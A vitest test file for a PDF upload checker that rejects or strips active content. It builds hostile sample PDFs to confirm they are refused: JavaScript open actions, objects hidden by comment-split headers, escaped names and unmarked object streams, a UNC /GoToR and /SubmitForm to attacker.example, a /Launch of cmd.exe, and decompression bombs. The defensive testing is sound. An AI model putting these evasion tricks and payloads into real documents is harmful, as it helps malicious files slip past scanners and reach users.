import { randomBytes } from 'node:crypto';
import zlib from 'node:zlib';
import { PDFArray, PDFDocument, PDFName, PDFParser, PDFRawStream } from 'pdf-lib';
import sharp from 'sharp';
import { describe, expect, it } from 'vitest';
import { pdfWith } from '../../test/files';
import { ATTACKER_URL, obj, pdfOpeningAWebAddress, pdfWithXref, viewerSees } from '../../test/pdfs';
import { ApiError } from '../errors';
import { assertInertPdf, PDF_CHECK_LIMITS } from './content';
import { inspectPdf, PDF_DECODED_LIMITS } from './pdf-check';
import { pagesOnly } from './pdf-rebuild';

/** A PDF of these parts (objects, streams, junk) after the header, with a trailer; no xref, as pdf-lib needs none. */
const pdf = (parts: (string | Buffer)[], trailer = '/Root 1 0 R') =>
  Buffer.concat([
    Buffer.from('%PDF-1.7\n'),
    ...parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)),
    Buffer.from(`trailer\n<< ${trailer} >>\n%%EOF\n`),
  ]);
const pages =
  '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
  '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>\nendobj\n';
const stream = (number: number, dict: string, body: Buffer) =>
  Buffer.concat([
    Buffer.from(`${number} 0 obj\n<< ${dict} /Length ${body.length} >>\nstream\n`),
    body,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
const catalog = (extra = '') => `1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${extra}>>\nendobj\n`;
const script = '<< /S /JavaScript /JS (app.alert(1)) >>';

describe('PDF check (pdf-check.ts, in a worker thread through content.ts)', () => {
  it('binary stream data holding `/JS ` and `/AA>` by chance is not read as names', async () => {
    const image = Buffer.concat([randomBytes(100_000), Buffer.from('/JS /AA>/Launch('), randomBytes(100_000)]);
    const page = '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Resources << /XObject << /Im0 4 0 R >> >> >>';
    const tree = `2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n3 0 obj\n${page}\nendobj\n`;
    const scan = pdf([catalog(), tree, stream(4, '/Type /XObject /Subtype /Image /Filter /DCTDecode', image)]);
    expect(await inspectPdf(scan)).toBe('inert');
    expect((await assertInertPdf(scan)).includes(image)).toBe(true); // the image data is served as it came
  });

  it('an object hidden in a stream body (where an xref offset can point) is searched and refused', async () => {
    const body = Buffer.concat([randomBytes(5_000), Buffer.from(`\n9 0 obj\n${script}\nendobj\n`), randomBytes(5_000)]);
    const hidden = pdf([catalog('/OpenAction 9 0 R '), pages, stream(4, '/Filter /FlateDecode', body)]);
    expect(await inspectPdf(hidden)).toBe('active');
  });

  it('a `stream` keyword inside a string hides nothing, even in a definition a later one replaces', async () => {
    const first = `1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Note (>>stream\n) /OpenAction ${script} /End (endstream) >>\nendobj\n`;
    expect(await inspectPdf(pdf([first, pages, catalog()]))).toBe('active');
  });

  it('an action packed in a compressed object stream is refused, also when the stream does not say /Type /ObjStm', async () => {
    const members = `6 0 ${script}`;
    const packed = zlib.deflateSync(Buffer.from(members));
    for (const type of ['/Type /ObjStm ', '']) {
      const file = pdf([
        catalog('/OpenAction 6 0 R '),
        pages,
        stream(5, `${type}/N 1 /First 4 /Filter /FlateDecode`, packed),
      ]);
      expect(file.toString('latin1')).not.toContain('JavaScript');
      expect(await inspectPdf(file), type || 'unmarked').toBe('active');
    }
  });

  it('names in the clear, #-escaped or not, are refused; encrypted or unparseable files are unreadable', async () => {
    expect(await inspectPdf(pdfWith('/OpenAction << /S /Java#53cript /J#53 (x) >>'))).toBe('active');
    expect(await inspectPdf(pdf([catalog(), pages], '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 >>'))).toBe(
      'unreadable',
    );
    expect(await inspectPdf(Buffer.from('%PDF-1.4\n1 0 obj\n<< /Type /Catalog 5 >>\nendobj\n'))).toBe('unreadable');
    expect(await inspectPdf(pdfWith())).toBe('inert');
  });

  it('over the waiting queue, a check is refused with 503 and Retry-After; the others are checked', async () => {
    const admitted = PDF_CHECK_LIMITS.threads + PDF_CHECK_LIMITS.waiting;
    const results = await Promise.allSettled(Array.from({ length: admitted + 6 }, () => assertInertPdf(pdfWith())));
    // the threads' and the queue's worth are checked, the 6 more sent at the same moment are not
    expect(results.map((r) => r.status)).toEqual([...Array(admitted).fill('fulfilled'), ...Array(6).fill('rejected')]);
    const busy = results.filter((r) => r.status === 'rejected');
    for (const r of busy) {
      const error = (r as PromiseRejectedResult).reason;
      expect(error).toBeInstanceOf(ApiError);
      expect(error).toMatchObject({ statusCode: 503, message: 'common.serviceUnavailable', retryAfterSeconds: 5 });
    }
    await expect(assertInertPdf(pdfWith())).resolves.toBeInstanceOf(Buffer);
  });

  describe('actions (issue 17 item 3)', () => {
    const page = (extra = '') => obj(3, `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] ${extra}>>`);
    const tree = obj(2, '<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
    const catalogWith = (extra: string) => obj(1, `<< /Type /Catalog /Pages 2 0 R ${extra}>>`);
    /** `9 0 %x⏎obj`: a comment splits the header; the xref table points into object 4's body. */
    const commentSplit = () =>
      pdfWithXref([
        catalogWith('/OpenAction 9 0 R '),
        tree,
        page('/Contents 4 0 R '),
        {
          ...obj(4, '', `q Q\n9 0 %x\nobj ${script} endobj\nq Q`),
          hidden: { number: 9, marker: '9 0 %x' },
        },
      ]);
    const served = async (file: Buffer) => {
      const stored = await assertInertPdf(file);
      const document = await PDFDocument.load(stored);
      return { stored, catalogKeys: document.catalog.keys().map(String), seen: await viewerSees(stored) };
    };

    it('an object whose header a comment splits, inside a stream body, reached from /OpenAction, is refused (pdf.js runs it)', async () => {
      const file = commentSplit();
      expect((await viewerSees(file)).scripts).toEqual({ OpenAction: ['app.alert(1)'] }); // the attack is real
      expect(await inspectPdf(file)).toBe('active');
      await expect(assertInertPdf(file)).rejects.toMatchObject({
        statusCode: 400,
        message: 'accounts.uploadActiveContent',
      });
    });

    it('a stream body of comment-like bytes without line ends is still searched in one pass', async () => {
      const body = Buffer.from('0%'.repeat(1_000_000));
      expect(await inspectPdf(pdf([catalog(), pages, stream(4, '/Filter /FlateDecode', body)]))).toBe('inert');
    });

    it('even an object no check sees is not served: the rebuilt PDF has the pages only', async () => {
      const context = await PDFParser.forBytesWithOptions(commentSplit()).parseDocument();
      const rebuilt = await pagesOnly(context);
      const seen = await viewerSees(rebuilt);
      expect(seen).toMatchObject({ pages: 1, scripts: null, openAction: null, annotations: [] });
      expect(Buffer.from(rebuilt).toString('latin1')).not.toContain('OpenAction');
    });

    it.each([
      ['/GoToR to a UNC path', '<< /S /GoToR /F (\\\\\\\\attacker.example\\\\share\\\\x.pdf) /D [0 /Fit] >>'],
      ['/SubmitForm', '<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/) >> >>'],
      ['/ImportData', '<< /S /ImportData /F (data.fdf) >>'],
      ['/Launch', '<< /S /Launch /F (cmd.exe) >>'],
    ])('/OpenAction with %s is refused', async (_, action) => {
      const file = pdfWithXref([catalogWith(`/OpenAction ${action} `), tree, page()]);
      expect(await inspectPdf(file)).toBe('active');
    });

    it('/OpenAction with /URI, and a link to a web address, are not in what is served', async () => {
      const file = pdfOpeningAWebAddress();
      expect((await viewerSees(file)).annotations).toMatchObject([{ subtype: 'Link', url: ATTACKER_URL }]);
      const { stored, catalogKeys, seen } = await served(file);
      expect(catalogKeys).toEqual(['/Type', '/Pages']);
      expect(seen).toMatchObject({ pages: 1, annotations: [], openAction: null, scripts: null });
      expect(stored.toString('latin1')).not.toContain('attacker.example');
    });

    it('an annotation whose /A runs JavaScript is refused', async () => {
      const annotation = `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 99 99] /A ${script} >>] `;
      expect(await inspectPdf(pdfWithXref([catalogWith(''), tree, page(annotation)]))).toBe('active');
    });

    it('what is served keeps a scan viewable but drops names, forms, outlines, annotations and page extras', async () => {
      const photo = await sharp({ create: { width: 60, height: 80, channels: 3, background: '#7a6' } })
        .jpeg()
        .toBuffer();
      const document = await PDFDocument.create();
      const scanPage = document.addPage([300, 400]);
      scanPage.drawImage(await document.embedJpg(photo), { x: 10, y: 10, width: 280, height: 380 });
      const { context, catalog } = document;
      const goToFirst = context.obj({ S: 'GoTo', D: [scanPage.ref, 'Fit'] });
      catalog.set(PDFName.of('OpenAction'), goToFirst);
      catalog.set(PDFName.of('Names'), context.obj({ Dests: context.obj({ Names: [] }) }));
      catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [] }));
      catalog.set(PDFName.of('Outlines'), context.obj({ Type: 'Outlines', Count: 0 }));
      const note = context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 50, 50], A: goToFirst });
      scanPage.node.set(PDFName.of('Annots'), context.obj([note]));
      scanPage.node.set(PDFName.of('Thumb'), context.register(context.stream('x')));
      const original = Buffer.from(await document.save({ useObjectStreams: true }));
      expect((await viewerSees(original)).annotations).toHaveLength(1);

      const { stored, catalogKeys, seen } = await served(original);
      expect(catalogKeys).toEqual(['/Type', '/Pages']);
      expect(seen).toMatchObject({ pages: 1, annotations: [], openAction: null, fields: null });
      expect(seen.operators).toEqual((await viewerSees(original)).operators); // drawn the same: the image is painted
      const kept = (await PDFDocument.load(stored)).getPage(0);
      expect(kept.node.keys().map(String).sort()).toEqual(['/Contents', '/MediaBox', '/Parent', '/Resources', '/Type']);
      expect(kept.getSize()).toEqual({ width: 300, height: 400 });
      const images = [...(await PDFDocument.load(stored)).context.enumerateIndirectObjects()]
        .map(([, object]) => object)
        .filter(
          (object) => object instanceof PDFRawStream && object.dict.get(PDFName.of('Subtype')) === PDFName.of('Image'),
        );
      expect(images).toHaveLength(1);
      expect(Buffer.from((images[0] as PDFRawStream).contents).equals(photo)).toBe(true);
    });

    it('a filled-in field and a stamp are drawn into the served page; a hidden annotation is not', async () => {
      const document = await PDFDocument.create();
      const formPage = document.addPage([300, 200]);
      const field = document.getForm().createTextField('applicant');
      field.setText('ASHA PATIL');
      field.addToPage(formPage, { x: 20, y: 120, width: 200, height: 30 });
      const { context } = document;
      const font = context.obj({ Type: 'Font', Subtype: 'Type1', BaseFont: 'Helvetica' });
      const shown = (text: string, flags: number) => {
        const look = context.stream(`BT /F1 10 Tf 2 5 Td (${text}) Tj ET`, {
          Type: 'XObject',
          Subtype: 'Form',
          BBox: [0, 0, 100, 20],
          Resources: { Font: { F1: font } },
        });
        const ap = context.obj({ N: context.register(look) });
        return context.register(
          context.obj({ Type: 'Annot', Subtype: 'Stamp', Rect: [20, 20, 120, 40], F: flags, AP: ap }),
        );
      };
      const annots = formPage.node.lookup(PDFName.of('Annots'));
      if (!(annots instanceof PDFArray)) throw new Error('the field has no widget');
      annots.push(shown('VERIFIED STAMP', 4));
      annots.push(shown('HIDDEN NOTE', 2));
      const original = Buffer.from(await document.save());
      expect((await viewerSees(original)).text).toEqual(['']); // shown only as annotations

      const { seen } = await served(original);
      expect(seen).toMatchObject({ pages: 1, annotations: [], fields: null });
      expect(seen.text[0]).toContain('ASHA PATIL');
      expect(seen.text[0]).toContain('VERIFIED STAMP');
      expect(seen.text[0]).not.toContain('HIDDEN NOTE');
    });
  });

  describe('decompression bombs (issue 17 item 5)', () => {
    /** An object stream holding one object, then `padding` more bytes once inflated. */
    const objectStream = (number: number, inflated: number, filters = '/FlateDecode') => {
      const member = Buffer.from('6 0 << /Kind /Note >> ');
      let data: Buffer = Buffer.concat([member, Buffer.alloc(inflated - member.length, ' ')]);
      const layers = filters.match(/FlateDecode/g)?.length ?? 0;
      for (let i = 0; i < layers; i++) data = zlib.deflateSync(data, { level: 9 });
      return stream(number, `/Type /ObjStm /N 1 /First 4 /Filter [${filters}]`, data);
    };
    const { perStream, perFile } = PDF_DECODED_LIMITS;

    it('an object stream inflating to the limit is read; one byte more is unreadable', async () => {
      expect(await inspectPdf(pdf([catalog(), pages, objectStream(5, perStream)]))).toBe('inert');
      expect(await inspectPdf(pdf([catalog(), pages, objectStream(5, perStream + 1)]))).toBe('unreadable');
    });

    it('an object stream with a wrong checksum or bytes after its end is read, as readers read it', async () => {
      const packed = zlib.deflateSync(Buffer.from(`6 0 ${script}`));
      packed[packed.length - 1] = (packed[packed.length - 1] ?? 0) ^ 0xff; // the Adler-32 checksum's last byte
      const untidy = Buffer.concat([packed, Buffer.from('\r\n junk')]);
      const file = pdf([
        catalog('/OpenAction 6 0 R '),
        pages,
        stream(5, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', untidy),
      ]);
      expect(await inspectPdf(file)).toBe('active'); // its member was read and checked
    });

    it('streams each within the limit but together over the file total are unreadable', async () => {
      const count = Math.floor(perFile / perStream);
      const within = Array.from({ length: count }, (_, i) => objectStream(10 + i, perStream));
      expect(await inspectPdf(pdf([catalog(), pages, ...within]))).toBe('inert');
      const over = [...within, objectStream(10 + count, 64)];
      expect(await inspectPdf(pdf([catalog(), pages, ...over]))).toBe('unreadable');
    });

    it('a bomb in two Flate layers, in an xref stream, or in a stream not marked /ObjStm is unreadable', async () => {
      const big = perStream * 4;
      expect(await inspectPdf(pdf([catalog(), pages, objectStream(5, big, '/FlateDecode /FlateDecode')]))).toBe(
        'unreadable',
      );
      const xref = zlib.deflateSync(Buffer.alloc(big));
      expect(
        await inspectPdf(
          pdf([catalog(), pages, stream(5, '/Type /XRef /W [1 2 1] /Size 6 /Filter /FlateDecode', xref)]),
        ),
      ).toBe('unreadable');
      const unmarked = zlib.deflateSync(Buffer.concat([Buffer.from('6 0 << >> '), Buffer.alloc(big, ' ')]));
      expect(await inspectPdf(pdf([catalog(), pages, stream(5, '/N 1 /First 4 /Filter /FlateDecode', unmarked)]))).toBe(
        'unreadable',
      );
    });

    it('a 1000:1 object stream (64 KB → 64 MB) is refused as unreadable by the worker (1.5 GB: bench/pdf-check.ts)', async () => {
      const bomb = pdf([catalog(), pages, objectStream(5, 64 * 1024 * 1024)]);
      expect(bomb.length).toBeLessThan(100 * 1024);
      await expect(assertInertPdf(bomb)).rejects.toMatchObject({
        statusCode: 400,
        message: 'accounts.uploadUnreadable',
      });
    });
  });
});
